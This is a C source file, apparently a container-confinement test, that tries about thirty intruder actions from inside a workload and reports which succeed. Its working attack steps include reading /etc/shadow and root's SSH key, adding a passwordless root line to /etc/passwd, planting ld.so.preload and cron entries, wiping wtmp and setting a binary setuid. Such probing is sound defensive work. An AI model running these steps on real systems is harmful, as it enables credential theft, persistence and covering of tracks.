/* SPDX-License-Identifier: Apache-2.0 */
/*
 * intruder: has taken a workload's place, and tries what an intruder would, against files and
 * capabilities first.
 *
 *     intruder SELF DROP
 *
 * SELF is the program whose place it has, DROP a file that the workload may write. Each attack is
 * a process of its own and prints "NAME: worked", or "NAME: ERRNO" of the step that was refused
 * ("NAME: killed": it died). It worked when it has what it came for; an error says nothing about
 * who refused.
 *
 * No libc, so that it needs only the calls that it shows. What it changes is the container's own,
 * and thrown away with it; what is the machine's it sets to what it was.
 */
#include <asm/unistd.h>
#include <linux/bpf.h>
#include <linux/fcntl.h>
#include <stddef.h>
#include <stdint.h>

#define E_IO	     5
#define NEWUSER	     0x10000000ul /* linux/sched.h */
#define NEWNS	     0x00020000ul
#define SIGCHLD	     17
#define TRACE_SEIZE  0x4206 /* linux/ptrace.h */
#define PROT_RX	     5
#define MAP_PRIVATE  2
#define BLOCK_DEVICE 0060600 /* S_IFBLK | 0600 */
#define DISK	     0xfe00  /* major 254, minor 0: virtio's first */
#define DETACH	     2
#define READ_ALL     3 /* SYSLOG_ACTION_READ_ALL */
#define SESSION_KEYS (-3)
#define SYSTEM	     "/usr/bin/find"
#define LIBC	     "/usr/lib/x86_64-linux-gnu/libc.so.6"

static const char *drop, *self;

static long call(long nr, uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e, uint64_t f)
{
	register uint64_t r10 __asm__("r10") = d;
	register uint64_t r8 __asm__("r8") = e;
	register uint64_t r9 __asm__("r9") = f;
	long ret;

	__asm__ volatile("syscall"
			 : "=a"(ret)
			 : "0"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
			 : "rcx", "r11", "memory");
	return ret;
}
#define CALL(nr, a, b, c) call(nr, (uint64_t)(a), (uint64_t)(b), (uint64_t)(c), 0, 0, 0)

__asm__(".globl _start\n_start: mov %rsp, %rdi\n and $-16, %rsp\n call begin\n");

void *memset(void *to, int byte, size_t len);
void *memset(void *to, int byte, size_t len)
{
	for (volatile char *at = to; len > 0; len--)
		*at++ = (char)byte;
	return to;
}

static size_t length(const char *text)
{
	size_t len = 0;

	while (text[len])
		len++;
	return len;
}

/* ---- steps ---- */

static long open_at(const char *path, long flags, long mode)
{
	return call(__NR_openat, (uint64_t)AT_FDCWD, (uint64_t)path, (uint64_t)flags,
		    (uint64_t)mode, 0, 0);
}

/* A byte of it was read. */
static long read_fd(long fd)
{
	char byte;
	long ret = fd < 0 ? fd : CALL(__NR_read, fd, &byte, 1);

	return ret == 0 ? -E_IO : ret;
}

static long read_of(const char *path)
{
	return read_fd(open_at(path, O_RDONLY, 0));
}

static long write_of(const char *path, long flags, const char *text)
{
	long fd = open_at(path, O_WRONLY | flags, 0644);

	return fd < 0 ? fd : CALL(__NR_write, fd, text, length(text));
}

/* Says again what stands there. "always [madvise] never" is one of these words. */
static long write_again(const char *path)
{
	char text[256];
	long fd = open_at(path, O_RDONLY, 0), len;

	if (fd < 0)
		return fd;
	len = CALL(__NR_read, fd, text, sizeof(text) - 1);
	if (len <= 0)
		return -E_IO;
	text[len] = '\0';
	return write_of(path, 0, text[0] == 'a' || text[0] == '[' ? "madvise" : text);
}

/* A program of its own, where the workload may write: this one. */
static long drop_program(void)
{
	static char copy[65536];
	long from = open_at(self, O_RDONLY, 0), to, len;

	if (from < 0)
		return from;
	to = open_at(drop, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (to < 0)
		return to;
	while ((len = CALL(__NR_read, from, copy, sizeof(copy))) > 0)
		CALL(__NR_write, to, copy, len);
	/* Where the name was there before. */
	len = CALL(__NR_fchmod, to, 0755, 0);
	CALL(__NR_close, to, 0, 0);
	CALL(__NR_close, from, 0, 0);
	return len;
}

/* What runs says so. */
static long run(const char *path, const char *text)
{
	const char *argv[] = { path, text, NULL }, *envp[] = { NULL };

	return CALL(__NR_execve, path, argv, envp);
}

/* ---- attacks ---- */

#define ATTACK(name, value)                                                                        \
	static long name(void)                                                                     \
	{                                                                                          \
		return value;                                                                      \
	}

ATTACK(read_shadow, read_of("/etc/shadow"))
ATTACK(read_key, read_of("/root/.ssh/id_ed25519"))
ATTACK(read_environ, read_of("/proc/1/environ"))
ATTACK(read_kcore, read_of("/proc/kcore"))
ATTACK(write_passwd, write_of("/etc/passwd", O_APPEND, "x::0:0::/:/bin/sh\n"))
ATTACK(write_preload, write_of("/etc/ld.so.preload", O_CREAT, "/tmp/evil.so\n"))
ATTACK(write_cron, write_of("/etc/cron.d/evil", O_CREAT, "* * * * * root true\n"))
ATTACK(write_libc, open_at(LIBC, O_WRONLY, 0))
ATTACK(wipe_log, write_of("/var/log/wtmp", O_TRUNC, "\n"))
ATTACK(make_setuid, CALL(__NR_fchmodat, AT_FDCWD, SYSTEM, 04755))
ATTACK(give_away, call(__NR_fchownat, (uint64_t)AT_FDCWD, (uint64_t) "/etc/hosts", 33, 33, 0, 0))
ATTACK(sysrq, write_of("/proc/sysrq-trigger", 0, "h"))
ATTACK(core_pattern, write_again("/proc/sys/kernel/core_pattern"))
ATTACK(write_sys, write_again("/sys/kernel/mm/transparent_hugepage/enabled"))
ATTACK(raw_socket, CALL(__NR_socket, 2, 3, 1))
ATTACK(packet_socket, CALL(__NR_socket, 17, 3, 0x300))
ATTACK(mount_tmpfs,
       call(__NR_mount, (uint64_t) "none", (uint64_t) "/mnt", (uint64_t) "tmpfs", 0, 0, 0))
ATTACK(umount_shm, CALL(__NR_umount2, "/dev/shm", DETACH, 0))
ATTACK(change_root, CALL(__NR_chroot, "/tmp", 0, 0))
ATTACK(own_users, CALL(__NR_unshare, NEWUSER | NEWNS, 0, 0))
ATTACK(trace_parent,
       call(__NR_ptrace, TRACE_SEIZE, (uint64_t)CALL(__NR_getppid, 0, 0, 0), 0, 0, 0, 0))
ATTACK(set_host_name, CALL(__NR_sethostname, "evil", 4, 0))
ATTACK(read_klog, CALL(__NR_syslog, READ_ALL, (char[64]){ 0 }, 64))
ATTACK(get_keys, CALL(__NR_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, SESSION_KEYS, 1))
ATTACK(run_other, run("/usr/bin/echo", "run another program: worked"))

/* A file of its own over the workload's program. */
static long replace_self(void)
{
	char path[256];
	size_t len = length(self);
	long ret;

	for (size_t i = 0; i <= len; i++)
		path[i] = self[i];
	path[len - 1] = '~';
	ret = write_of(path, O_CREAT, "#!/bin/sh\n");
	return ret < 0 ? ret : CALL(__NR_rename, path, self, 0);
}

static long make_disk(void)
{
	CALL(__NR_unlinkat, AT_FDCWD, "/tmp/.disk", 0);
	return call(__NR_mknodat, (uint64_t)AT_FDCWD, (uint64_t) "/tmp/.disk", BLOCK_DEVICE, DISK,
		    0, 0);
}

static long link_shadow(void)
{
	CALL(__NR_unlink, drop, 0, 0);
	return call(__NR_linkat, (uint64_t)AT_FDCWD, (uint64_t) "/etc/shadow", (uint64_t)AT_FDCWD,
		    (uint64_t)drop, 0, 0);
}

static long symlink_shadow(void)
{
	long ret;

	CALL(__NR_unlink, drop, 0, 0);
	ret = CALL(__NR_symlinkat, "/proc/self/root/etc/shadow", AT_FDCWD, drop);
	return ret < 0 ? ret : read_of(drop);
}

/* A library that was dropped, as code. */
static long map_dropped(void)
{
	long ret = drop_program(), fd;

	if (ret < 0)
		return ret;
	fd = open_at(drop, O_RDONLY, 0);
	if (fd < 0)
		return fd;
	ret = call(__NR_mmap, 0, 4096, PROT_RX, MAP_PRIVATE, (uint64_t)fd, 0);
	return ret < 0 && ret > -4096 ? ret : 0;
}

static long run_dropped(void)
{
	long ret = drop_program();

	return ret < 0 ? ret : run(drop, "run a dropped program: worked\n");
}

/* Into namespaces by a descriptor, as nsenter does. */
static long join(void)
{
	long fd = open_at("/proc/1/ns/uts", O_RDONLY, 0);

	return fd < 0 ? fd : CALL(__NR_setns, fd, 0, 0);
}

/* A file by its handle goes around every folder on the way. */
static long by_handle(void)
{
	struct {
		uint32_t bytes;
		int32_t type;
		unsigned char handle[128];
	} found = { .bytes = sizeof(found.handle) };
	int mount;
	long dir = open_at("/dev", O_RDONLY | O_DIRECTORY, 0), ret;

	if (dir < 0)
		return dir;
	ret = call(__NR_name_to_handle_at, (uint64_t)AT_FDCWD, (uint64_t) "/dev/shm",
		   (uint64_t)&found, (uint64_t)&mount, 0, 0);
	if (ret < 0)
		return ret;
	return CALL(__NR_open_by_handle_at, dir, &found, O_RDONLY);
}

static long make_map(void)
{
	union bpf_attr attr = { .map_type = BPF_MAP_TYPE_ARRAY };

	attr.key_size = 4;
	attr.value_size = 4;
	attr.max_entries = 1;
	return CALL(__NR_bpf, BPF_MAP_CREATE, &attr, sizeof(attr));
}

/* In this order: what spoils the container for the rest comes last. */
static const struct attack {
	const char *name;
	long (*try)(void);
} attacks[] = {
	{ "read /etc/shadow", read_shadow },
	{ "read root's ssh key", read_key },
	{ "read /proc/1/environ", read_environ },
	{ "read /proc/kcore", read_kcore },
	{ "write /etc/passwd", write_passwd },
	{ "write /etc/cron.d", write_cron },
	{ "wipe a log", wipe_log },
	{ "make a program setuid", make_setuid },
	{ "chown /etc/hosts", give_away },
	{ "write /proc/sysrq-trigger", sysrq },
	{ "write core_pattern", core_pattern },
	{ "write below /sys", write_sys },
	{ "link to /etc/shadow", link_shadow },
	{ "symlink to /etc/shadow", symlink_shadow },
	{ "map a dropped library", map_dropped },
	{ "run a dropped program", run_dropped },
	{ "run another program", run_other },
	{ "mknod of the disk", make_disk },
	{ "raw socket", raw_socket },
	{ "packet socket", packet_socket },
	{ "mount", mount_tmpfs },
	{ "umount", umount_shm },
	{ "chroot", change_root },
	{ "user namespace", own_users },
	{ "setns", join },
	{ "ptrace its parent", trace_parent },
	{ "open by handle", by_handle },
	{ "set the host's name", set_host_name },
	{ "read the kernel's log", read_klog },
	{ "bpf", make_map },
	{ "keyctl", get_keys },
	{ "write /etc/ld.so.preload", write_preload },
	{ "write libc", write_libc },
	{ "replace its program", replace_self },
};

/* ---- telling ---- */

static void say(const char *text)
{
	CALL(__NR_write, 1, text, length(text));
}

static void say_number(unsigned long number)
{
	char digits[24], *at = digits + sizeof(digits);

	*--at = '\0';
	do
		*--at = (char)('0' + number % 10);
	while (number /= 10);
	say(at);
}

static void tell(const char *name, long ret)
{
	say(name);
	if (ret >= 0) {
		say(": worked\n");
		return;
	}
	say(": ");
	say_number((unsigned long)-ret);
	say("\n");
}

static __attribute__((noreturn)) void end_with(long status)
{
	for (;;)
		CALL(__NR_exit_group, status, 0, 0);
}

static void attempt(const struct attack *attack)
{
	int status = 0;
	long child = call(__NR_clone, SIGCHLD, 0, 0, 0, 0, 0), ret;

	if (child == 0) {
		ret = attack->try();
		tell(attack->name, ret);
		end_with(0);
	}
	if (child < 0) {
		say(attack->name);
		say(": no child\n");
		return;
	}
	while (call(__NR_wait4, (uint64_t)child, (uint64_t)&status, 0, 0, 0, 0) == -4)
		continue;
	if (status & 0x7f) {
		say(attack->name);
		say(": killed\n");
	}
}

/* The kernel's stack: argc, argv, NULL. With a text alone it was run by itself. */
__attribute__((used, noreturn)) void begin(long *stack);
void begin(long *stack)
{
	char **argv = (char **)(stack + 1);

	if (stack[0] == 2)
		say(argv[1]);
	if (stack[0] != 3)
		end_with(stack[0] != 2);
	self = argv[1];
	drop = argv[2];
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
		attempt(&attacks[i]);
	end_with(0);
}
